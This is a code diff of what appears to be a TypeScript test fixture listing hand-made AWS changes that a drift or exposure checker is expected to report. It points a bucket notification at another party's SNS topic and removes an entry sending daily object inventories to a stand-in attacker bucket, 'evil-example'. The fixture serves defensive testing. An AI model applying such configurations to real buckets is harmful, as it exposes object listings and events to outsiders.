@@ -1,12 +1,9 @@
 import { PutTargetsCommand, RemoveTargetsCommand } from "@aws-sdk/client-eventbridge";
 import {
   DeleteBucketCorsCommand,
-  DeleteBucketInventoryConfigurationCommand,
   DeleteBucketReplicationCommand,
   DeleteBucketWebsiteCommand,
   PutBucketCorsCommand,
-  PutBucketInventoryConfigurationCommand,
-  PutBucketLoggingCommand,
   PutBucketNotificationConfigurationCommand,
   PutBucketReplicationCommand,
   PutBucketWebsiteCommand,
@@ -153,48 +150,15 @@ export const additions: readonly Addition[] = [
         new PutBucketNotificationConfigurationCommand({
           Bucket,
           NotificationConfiguration: {
-            TopicConfigurations: [{ Id: "by-hand", TopicArn: topicArn, Events: ["s3:ObjectCreated:*"] }],
+            TopicConfigurations: [
+              { Id: "by-hand", TopicArn: `${topicArn}-of-somebody-else`, Events: ["s3:ObjectCreated:*"] },
+            ],
           },
         }),
       ),
     remove: async ({ s3 }, { bucket: Bucket }) =>
       await s3.send(new PutBucketNotificationConfigurationCommand({ Bucket, NotificationConfiguration: {} })),
     reports: "opens    bucket notification $bucket: added: ",
-  },
-  {
-    name: "requests to the bucket are logged elsewhere",
-    by: "aws s3api put-bucket-logging",
-    add: async ({ s3 }, { bucket: Bucket }) =>
-      await s3.send(
-        new PutBucketLoggingCommand({
-          Bucket,
-          BucketLoggingStatus: { LoggingEnabled: { TargetBucket: Bucket, TargetPrefix: "by-hand/" } },
-        }),
-      ),
-    remove: async ({ s3 }, { bucket: Bucket }) =>
-      await s3.send(new PutBucketLoggingCommand({ Bucket, BucketLoggingStatus: {} })),
-    reports: "extra    bucket logging $bucket: added: ",
-  },
-  {
-    name: "lists of all objects go to another bucket",
-    by: "aws s3api put-bucket-inventory-configuration",
-    add: async ({ s3 }, { bucket: Bucket }) =>
-      await s3.send(
-        new PutBucketInventoryConfigurationCommand({
-          Bucket,
-          Id: "by-hand",
-          InventoryConfiguration: {
-            Id: "by-hand",
-            IsEnabled: true,
-            IncludedObjectVersions: "All",
-            Schedule: { Frequency: "Daily" },
-            Destination: { S3BucketDestination: { Bucket: "arn:aws:s3:::evil-example", Format: "CSV" } },
-          },
-        }),
-      ),
-    remove: async ({ s3 }, { bucket: Bucket }) =>
-      await s3.send(new DeleteBucketInventoryConfigurationCommand({ Bucket, Id: "by-hand" })),
-    reports: "opens    bucket inventory $bucket: added: ",
   },
 ];
 
